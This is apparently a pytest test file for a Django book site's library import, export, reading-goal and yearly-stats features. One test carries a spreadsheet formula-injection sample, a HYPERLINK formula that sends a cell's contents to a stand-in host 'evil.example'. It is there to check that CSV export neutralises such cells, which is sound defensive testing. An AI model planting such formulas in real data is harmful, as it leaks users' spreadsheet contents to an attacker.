import csv
import io
import json
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse

from accounts.models import BookReview, BookShelf, ShelfVisibility
from accounts.tests.factories import BookReviewFactory, BookShelfFactory
from catalog.models import Book
from core.tests.factories import UserFactory
from library import formats
from library.models import ImportJob, ImportRow, ReadingGoal
from library.tests.conftest import fixture_bytes

pytestmark = pytest.mark.django_db
HOME = reverse("library:home")
UPLOAD = reverse("library:import_upload")


def upload(client, data: bytes, name="biblioteca.csv"):
    """Post a file; the import task (eager in tests) runs when the upload commits."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(UPLOAD, {"file": SimpleUploadedFile(name, data, content_type="text/csv")})


def test_pages_of_my_library_ask_anonymous_readers_to_log_in(client):
    for url in (HOME, reverse("library:export_goodreads"), reverse("library:export_account")):
        response = client.get(url)
        assert response.status_code == 302 and "/conta/" in response["Location"]


def test_home_shows_import_export_and_goal(auth_client):
    response = auth_client.get(HOME)
    assert response.status_code == 200
    assert b"Trazer sua biblioteca" in response.content and b"goodreads.csv" in response.content


def test_upload_creates_the_job_runs_it_and_shows_progress(auth_client, user, catalog):
    response = upload(auth_client, fixture_bytes("goodreads_sample.csv"))
    job = ImportJob.objects.get(user=user)
    assert response.status_code == 302 and response["Location"] == reverse("library:import_detail", args=[job.pk])
    page = auth_client.get(response["Location"])
    assert page.status_code == 200 and "Livro Que Não Existe" in page.content.decode()
    partial = auth_client.get(reverse("library:import_progress", args=[job.pk]))
    assert partial["HX-Refresh"] == "true" and b"5 de 5 linhas" in partial.content


def test_a_running_job_page_polls_every_two_seconds(auth_client, user):
    job = ImportJob.objects.create(user=user, source="goodreads", file_name="a.csv", total_rows=10, done_rows=3)
    page = auth_client.get(reverse("library:import_detail", args=[job.pk])).content.decode()
    assert 'hx-trigger="every 2s"' in page and 'http-equiv="refresh" content="2"' in page
    assert "HX-Refresh" not in auth_client.get(reverse("library:import_progress", args=[job.pk]))


def test_a_second_upload_while_one_runs_is_refused(auth_client, user):
    ImportJob.objects.create(user=user, source="goodreads", file_name="a.csv", status="running")
    response = upload(auth_client, fixture_bytes("goodreads_sample.csv"))
    assert response.status_code == 409 and "em andamento" in response.content.decode()


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\x7fELF\x02\x01\x01\x00\x00\x00" * 50, "binário"),
        ("Title,Author,Exclusive Shelf\nCoração,Zé,read\n".encode("latin-1"), "UTF-8"),
        (b'Title,Author,Exclusive Shelf\n"A,B,read\n', "malformado"),
        (b"a,b\n1,2\n", "colunas"),
        (b"x" * (formats.MAX_FILE_BYTES + 1), "5 MB"),
    ],
)
def test_hostile_uploads_get_a_clear_message_and_write_nothing(auth_client, data, message):
    response = upload(auth_client, data)
    assert response.status_code == 422 and message in response.content.decode()
    assert not ImportJob.objects.exists() and not ImportRow.objects.exists()


def test_someone_elses_import_is_forbidden(client, user, catalog):
    job = ImportJob.objects.create(user=user, source="goodreads", file_name="a.csv")
    client.force_login(UserFactory())
    assert client.get(reverse("library:import_detail", args=[job.pk])).status_code == 403
    assert client.get(reverse("library:import_detail", args=[job.pk + 999])).status_code == 404


def test_an_unmatched_row_is_resolved_through_search_or_skipped(auth_client, user, catalog):
    upload(auth_client, fixture_bytes("goodreads_sample.csv"))
    job = ImportJob.objects.get(user=user)
    row = job.rows.get(status="unmatched")
    url = reverse("library:import_row", args=[job.pk, row.pk])
    page = auth_client.get(url, {"q": "Dom Casmurro"})
    assert page.status_code == 200 and "Dom Casmurro" in page.content.decode()
    assert auth_client.post(url, {"action": "resolve", "book": "abc"}).status_code == 422
    response = auth_client.post(url, {"action": "resolve", "book": catalog["dom"].pk})
    assert response.status_code == 302
    row.refresh_from_db()
    assert row.status == "applied" and row.book == catalog["dom"]
    assert auth_client.post(url, {"action": "skip"}).status_code == 409  # already resolved


def test_skipping_an_unmatched_row(auth_client, user, catalog):
    upload(auth_client, fixture_bytes("storygraph_sample.csv"))
    job = ImportJob.objects.get(user=user)
    row = job.rows.get(status="unmatched")
    assert auth_client.post(reverse("library:import_row", args=[job.pk, row.pk]), {"action": "skip"}).status_code == 302
    row.refresh_from_db()
    assert row.status == "skipped"


def library_of(user) -> set:
    shelves = set(
        BookShelf.objects.filter(user=user).values_list("book_id", "shelf_type", "custom_name", "finished_at")
    )
    return shelves | set(BookReview.objects.filter(user=user).values_list("book_id", "rating", "text"))


def test_export_round_trip_gives_a_fresh_account_the_same_library(client, user, catalog):
    client.force_login(user)
    upload(client, fixture_bytes("goodreads_sample.csv"))
    response = client.get(reverse("library:export_goodreads"))
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    exported = b"".join(response.streaming_content)
    rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    assert list(rows[0]) == formats.GOODREADS_COLUMNS and len(rows) == 4
    assert any(row["ISBN13"] == '="9780439023480"' for row in rows)
    fresh = UserFactory()
    client.force_login(fresh)
    upload(client, exported, name="cgbookstore-biblioteca.csv")
    assert ImportJob.objects.get(user=fresh).unmatched == 0
    assert library_of(fresh) == library_of(user)


def test_export_neutralises_formula_cells_and_re_imports_them_unchanged(client, user, catalog):
    """A review or shelf name a spreadsheet would run as a formula is written with a leading '."""
    book = catalog["dom"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
    BookShelfFactory(user=user, book=book, shelf_type=BookShelf.ShelfType.CUSTOM, custom_name="@SUM(1+1)")
    BookReviewFactory(user=user, book=book, rating=4, text=formula)
    client.force_login(user)
    exported = b"".join(client.get(reverse("library:export_goodreads")).streaming_content)
    row = next(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    assert row["My Review"] == "'" + formula
    assert row["Bookshelves"] == "'@SUM(1+1)"
    assert row["ISBN13"] == '="9788535910681"'  # our own formula keeps the zeros
    fresh = UserFactory()
    client.force_login(fresh)
    upload(client, exported, name="cgbookstore-biblioteca.csv")
    assert library_of(fresh) == library_of(user)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+55 11", "'+55 11"),
        ("-x", "'-x"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Dom", "Dom"),
        ("", ""),
        (3, 3),
    ],
)
def test_neutralise_cell(value, expected):
    assert formats.neutralise_cell(value) == expected
    assert formats.unneutralise_cell(formats.neutralise_cell(value)) == value if isinstance(value, str) else True


def test_account_export_is_one_json_document_with_every_section(auth_client, user, catalog):
    upload(auth_client, fixture_bytes("goodreads_sample.csv"))
    ReadingGoal.objects.create(user=user, year=2025, books=12)
    response = auth_client.get(reverse("library:export_account"))
    data = json.loads(b"".join(response.streaming_content))
    assert data["user"]["username"] == user.username
    assert {"profile", "shelves", "progress", "reviews", "debate_posts", "goals"} <= set(data)
    assert len(data["reviews"]) == 2 and data["goals"] == [
        {"year": 2025, "books": 12, "pages": None, "visibility": "public"}
    ]


def test_goal_form_saves_and_rejects_bad_input(auth_client, user):
    response = auth_client.post(reverse("library:goal_update"), {"year": 2025, "books": 24, "visibility": "public"})
    assert response.status_code == 302 and ReadingGoal.objects.get(user=user).books == 24
    response = auth_client.post(reverse("library:goal_update"), {"year": 2025, "books": 0})
    assert response.status_code == 422 and ReadingGoal.objects.get(user=user).books == 24


def seed_year(user, count: int, year: int = 2024) -> None:
    start = Book.objects.count()
    books = Book.objects.bulk_create(
        Book(title=f"Ano {start + index}", slug=f"ano-{start + index}", pages=100 + index) for index in range(count)
    )
    BookShelf.objects.bulk_create(
        BookShelf(user=user, book=book, shelf_type="read", finished_at=date(year, 1 + index % 12, 1))
        for index, book in enumerate(books)
    )
    BookReview.objects.bulk_create(
        BookReview(user=user, book=book, rating="4.0", visibility="public" if index % 2 == 0 else "private")
        for index, book in enumerate(books)
    )
    ReadingGoal.objects.get_or_create(user=user, year=year, defaults={"books": 50})


def stats_url(user, year=2024, name="library:year_stats"):
    return reverse(name, kwargs={"username": user.username, "year": year})


def test_stats_pages_for_anonymous_and_logged_in_readers(client, user):
    seed_year(user, 3)
    for name in ("library:year_stats", "library:year_summary"):
        anonymous = client.get(stats_url(user, name=name))
        assert anonymous.status_code == 200 and b"library-stats-data" in anonymous.content or name.endswith("summary")
    client.force_login(user)
    page = client.get(stats_url(user)).content.decode()
    assert "<table" in page and "chart.umd.min.js" in page
    assert "Seu ano em livros" in client.get(stats_url(user, name="library:year_summary")).content.decode()


def test_stats_of_private_shelves_are_forbidden_to_others(client, user):
    ShelfVisibility.objects.create(user=user, shelf_type="read", visibility="private")
    assert client.get(stats_url(user)).status_code == 403
    client.force_login(user)
    assert client.get(stats_url(user)).status_code == 200


def test_stats_of_unknown_reader_or_year_is_404(client, user):
    assert client.get(stats_url(user, year=1200)).status_code == 404
    assert client.get(reverse("library:year_stats", kwargs={"username": "ninguem", "year": 2024})).status_code == 404


def test_a_private_goal_shows_to_its_owner_only(client, user):
    ReadingGoal.objects.create(user=user, year=date.today().year, books=7, visibility="private")
    profile = reverse("accounts:profile", kwargs={"username": user.username})
    assert "de 7 livros" not in client.get(profile).content.decode()
    client.force_login(user)
    assert "de 7 livros" in client.get(profile).content.decode()


@pytest.mark.parametrize("size", [10, 200])
def test_stats_page_query_count_is_fixed(client, user, size, django_assert_num_queries):
    seed_year(user, size)
    viewer = UserFactory()
    client.force_login(viewer)
    # session, viewer, header notification counter, owner + profile, the Lidos shelf's
    # visibility, 7 stats, goal + its count
    with django_assert_num_queries(13):
        assert client.get(stats_url(user)).status_code == 200
    # warm: the stats and the goal come from the cache; the owner and the visibility are read
    with django_assert_num_queries(2):  # the header counter and the viewer are cached too
        assert client.get(stats_url(user)).status_code == 200


@pytest.mark.parametrize("size", [10, 200])
def test_import_page_query_count_is_fixed(auth_client, user, size, django_assert_num_queries):
    job = ImportJob.objects.create(user=user, source="goodreads", file_name="a.csv", status="done")
    ImportRow.objects.bulk_create(
        ImportRow(job=job, row_number=n, raw={"Title": f"T{n}"}, status="unmatched") for n in range(size)
    )
    # user, header notification counter, job, unmatched count + page, problem rows
    with django_assert_num_queries(6):
        assert auth_client.get(reverse("library:import_detail", args=[job.pk])).status_code == 200


@pytest.mark.parametrize("size", [10, 200])
def test_home_query_count_is_fixed(auth_client, user, size, django_assert_num_queries):
    seed_year(user, size, year=date.today().year)
    ImportJob.objects.bulk_create(
        ImportJob(user=user, source="goodreads", file_name=f"{n}.csv", status="done") for n in range(size)
    )
    # user, header notification counter, goal + its count, recent jobs
    with django_assert_num_queries(5):
        assert auth_client.get(HOME).status_code == 200
    with django_assert_num_queries(1):  # warm: the user, the goal panel and the header counter are cached
        assert auth_client.get(HOME).status_code == 200
